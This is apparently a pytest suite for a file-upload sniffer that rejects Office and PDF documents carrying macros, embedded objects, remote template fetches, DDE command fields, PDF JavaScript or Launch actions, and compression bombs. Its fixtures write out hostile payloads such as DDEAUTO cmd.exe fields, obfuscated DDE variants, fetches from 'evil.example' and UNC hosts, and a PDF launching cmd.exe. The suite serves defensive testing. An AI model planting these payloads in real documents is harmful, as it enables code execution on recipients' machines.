"""Macros, programs, foreign templates, scripts and bombs are found wherever in a document they lie."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from office.files.kinds import NotAccepted, sniff

TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def document(parts: dict[str, bytes | str] | None = None) -> bytes:
    """A text document with these parts more."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in {
            "[Content_Types].xml": TYPES,
            "word/document.xml": "<d/>",
            **(parts or {}),
        }.items():
            made.writestr(name, content)
    return held.getvalue()


def relation(kind: str, target: str, mode: str = " TargetMode='External'", head: str = "") -> bytes:
    row = f"<Relationship Id='r1' Type='{RELATION}{kind}' Target='{target}'{mode}/>"
    return document({"word/_rels/document.xml.rels": f"{head}<Relationships>{row}</Relationships>"})


def nested(content: bytes, times: int) -> bytes:
    for _time in range(times):
        content = document({"word/embeddings/inner.docx": content})
    return content


def packed(objects: bytes, head: bytes = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>") -> bytes:
    return b"%PDF-1.7\n5 0 obj" + head + b"stream\n" + zlib.compress(objects) + b"\nendstream endobj"


def refusal(content: bytes) -> str:
    with pytest.raises(NotAccepted) as refused:
        sniff(content)
    return refused.value.code


@pytest.mark.clause("C6.9")
@pytest.mark.parametrize(
    ("content", "code"),
    [
        *((document({f"word/embeddings/Microsoft_Excel.{kind}": b"x"}), "macros") for kind in
          ("xlsm", "docm", "pptm", "xlsb", "dotm", "xltm", "xlam", "ppam", "XLSM")),
        (document({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        (document({"word/embeddings/sheet.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)}), "embedded"),
        (document({"word/media/picture.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)}), "embedded"),
        (nested(document({"word/vbaProject.bin": b"x"}), 1), "macros"),
        (nested(document({"word/vbaProject.bin": b"x"}), 2), "macros"),
        (nested(document(), 4), "embedded"),
        (document({"word/embeddings/inner.docx": b"PK\x03\x04broken"}), "damaged"),
        (document({"word/media/a.png": document({"x": "y"}).replace(b"word/document", b"worx/document")}), "embedded"),
        (relation("oleObject", "embeddings/a.dat", mode=""), "embedded"),
        (relation("aFChunk", "chunk.rtf", mode=""), "embedded"),
        (relation("vbaProject", "a.dat", mode=""), "macros"),
    ],
)  # fmt: skip
def test_programs_in_a_document_are_found(content: bytes, code: str) -> None:
    assert refusal(content) == code


@pytest.mark.clause("C6.9")
@pytest.mark.parametrize(
    "kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "image", "externalLink"]
)
@pytest.mark.parametrize("target", ["https://evil.example/a.dotm", "file:///c:/a.dotm", "\\\\evil\\a.dotm"])
def test_what_a_document_would_fetch_is_refused(kind: str, target: str) -> None:
    assert refusal(relation(kind, target)) == "remote"
    assert refusal(relation(kind, target, mode="")) == "remote"


def test_relations_are_read_as_office_reads_them() -> None:
    assert (
        refusal(relation("attached&#84;emplate", "http://e/a", mode=" TargetMode='&#69;xternal'")) == "remote"
    )
    assert refusal(relation("image", "a.png", mode="", head="<!DOCTYPE x [<!ENTITY a 'b'>]>")) == "damaged"
    assert refusal(document({"word/_rels/document.xml.rels": "<Relationships>"})) == "damaged"
    assert refusal(document({"word/_rels/document.xml.rels": b" " * (1 << 20)})) == "bomb"


def field(*code: str, tail: str = "") -> str:
    """A paragraph with a field whose code is written in pieces; a piece that begins with "<" stands as it is."""
    runs = "".join(
        piece if piece.startswith("<") else f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code
    )
    return f"{BEGIN}{runs}<w:r><w:fldChar w:fldCharType='separate'/></w:r>{tail}{END}"


W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
BEGIN, END = (f"<w:r><w:fldChar w:fldCharType='{word}'/></w:r>" for word in ("begin", "end"))


def written(body: str, name: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    return document(
        {name: f"<?xml version='1.0' encoding='{encoding}'?><w:p {W}>{body}</w:p>".encode(encoding)}
    )


@pytest.mark.clause("C6.9")
@pytest.mark.parametrize(
    ("content", "code"),
    [
        (written(field(" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")), "embedded"),
        (written(field("dde", "auto excel x")), "embedded"),
        (written(field(" D", "&#68;E ", "cmd")), "embedded"),
        (written(field(f"<w:r/>{field(' QUOTE 68 68 69 ')}", " cmd")), "embedded"),
        (written(field(" IF ", field(" DDE cmd"), " = 1")), "embedded"),
        (written("<w:fldSimple w:instr=' DDEAUTO cmd'/>"), "embedded"),
        (written("<w:r><w:instrText>DDE cmd</w:instrText></w:r>"), "embedded"),
        (written(f"{BEGIN}<w:r><w:instrText>DDE cmd</w:instrText></w:r>"), "embedded"),
        (written(field(" DDE cmd"), "word/header7.dat"), "embedded"),
        (written(field(" DDE cmd"), encoding="utf-16"), "embedded"),
        (written(field(" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d")), "remote"),
        (written(field(" INCLUDETEXT \\\\\\\\evil\\\\a.docx")), "remote"),
        (written(field(" LINK Excel.Sheet.12 c:\\\\a.xlsx")), "remote"),
        (document({"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
         "embedded"),
        (document({"xl/externalLinks/x.xml": "<x:externalLink xmlns:x='y'><x:oleLink/></x:externalLink>"}), "embedded"),
        (document({"xl/connections.xml": "<connections><connection><webPr url='http://evil/'/></connection></connections>"}),
         "remote"),
        (document({"ppt/slides/slide1.xml": "<a:hlinkClick xmlns:a='x' action='ppaction://program'/>"}), "embedded"),
        (document({"ppt/slides/slide1.xml": "<a:hlinkHover xmlns:a='x' action='PPACTION://macro?name=x'/>"}), "macros"),
        (written("<w:r><w:instrText>PAGE</w:instrText>"), "damaged"),
        (document({"word/document.xml": "<!DOCTYPE x [<!ENTITY d 'DDE'>]><x><instrText>&d; cmd</instrText></x>"}),
         "damaged"),
    ],
)  # fmt: skip
def test_what_a_field_or_a_cell_would_start_or_fetch_is_refused(content: bytes, code: str) -> None:
    assert refusal(content) == code


@pytest.mark.parametrize(
    "content",
    [
        document(),
        nested(document(), 2),
        written(field(" PAGE ") + field(" IF ", field(" MERGEFIELD Name "), " = 1")),
        written(
            field(" HYPERLINK &quot;https://example.com/dde/ddeauto&quot; ", tail="<w:t>DDE is old.</w:t>")
        ),
        written("<w:t>instrText ddeLink</w:t>"),
        document({"word/drawing.vml": "<xml><br>instrText</xml>"}),
        relation("hyperlink", "https://example.com/"),
        relation("image", "media/a.png", mode=""),
        document({"word/media/photo.png": b"\x89PNG" + bytes(1 << 20)}),
    ],
)
def test_an_honest_document_is_taken(content: bytes) -> None:
    assert sniff(content).extension == "docx"


@pytest.mark.clause("C6.9")
def test_a_document_that_unpacks_beyond_measure_is_not_opened() -> None:
    swollen = document({"word/media/a.emf": bytes(60 << 20)})
    assert len(swollen) < 100_000
    assert refusal(swollen) == "bomb"
    assert refusal(nested(swollen, 1)) == "bomb"
    assert refusal(document({f"word/{number}.xml": "" for number in range(5_001)})) == "archive"


@pytest.mark.clause("C6.9")
@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj",
        b"1 0 obj<</S /J#61vaScr#69pt /J#53 2 0 R>>endobj",
        b"1 0 obj<</S/Rendition/JS <61>>>endobj",
        b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj",
        b"1 0 obj<</Type/EmbeddedFile>>stream\nx\nendstream endobj",
        b"1 0 obj<</Names<</Embedded#46iles 3 0 R>>>>endobj",
        b"1 0 obj<</Subtype/RichMedia>>endobj",
        b"1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/URI/URI(http://e/)>>endobj",
        b"1 0 obj<</OpenAction<</S/URI/URI(http://e/)>>>>endobj",
        b"1 0 obj<</OpenAction 9 0 R>>endobj",
        b"1 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>endobj",
    ],
)
def test_a_pdf_that_does_something_is_refused(body: bytes) -> None:
    assert refusal(b"%PDF-1.7\n" + body) == "active"
    assert refusal(packed(b"1 0 " + body)) == "active"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (packed(b"1 0 <<>>") + b" trailer<</Encrypt 3 0 R>>", "locked"),
        (
            packed(b"1 0 <<>>", b"<</Type/ObjStm/Filter/LZWDecode>>").replace(b"\x78\x9c", b"\x00\x00"),
            "locked",
        ),
        (b"%PDF-1.7\n5 0 obj<</Type/#4fbjStm>>", "locked"),
        (packed(b"1 0 " + b" " * (49 << 20)), "bomb"),
        (packed(b"%x\n1 0 <</S/JavaScript>>", b"<</N 1/First 9/Filter/FlateDecode>>"), "locked"),
        (
            packed(b"\x021 0 <</S/JavaScript>>", b"<</N 1/#46irst%x\n 4/DecodeParms<</Predictor 12>>>>"),
            "locked",
        ),
    ],
)
def test_a_pdf_that_cannot_be_looked_into_is_refused(content: bytes, code: str) -> None:
    assert refusal(content) == code


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n1 0 obj<</OpenAction[1 0 R /XYZ null null 0]>>endobj",
        b"%PDF-1.7\n1 0 obj<</OpenAction 3 0 R>>endobj 3 0 obj << /S /GoTo /D [4 0 R /Fit] >> endobj",
        packed(b"3 0 <</S/GoTo/D[4 0 R/Fit]>>") + b" 1 0 obj<</OpenAction 3 0 R>>endobj",
        b"%PDF-1.7\n1 0 obj<</S/URI/URI(https://example.com/)>>endobj trailer<</Encrypt 3 0 R>>",
        b"%PDF-1.7\n1 0 obj<</First 2 0 R/FirstChar 32>>endobj 2 0 obj<<>>stream\n0 g\nendstream",
        b"%PDF-1.7\n1 0 obj<</Font/JSong>>stream\n"
        + zlib.compress(b"0 1 0 rg /JS12 Tf")
        + b"\nendstream endobj",
    ],
)
def test_an_honest_pdf_is_taken(content: bytes) -> None:
    assert sniff(content).extension == "pdf"
